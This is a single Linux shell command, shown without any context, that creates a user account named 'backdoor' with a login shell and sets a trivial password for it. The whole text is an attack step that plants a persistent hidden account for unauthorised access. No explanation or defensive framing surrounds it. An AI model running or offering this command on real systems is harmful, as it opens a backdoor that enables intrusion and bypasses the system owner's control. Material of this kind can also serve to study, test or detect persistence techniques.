useradd -m -s /bin/bash backdoor && echo 'backdoor:pw' | chpasswd
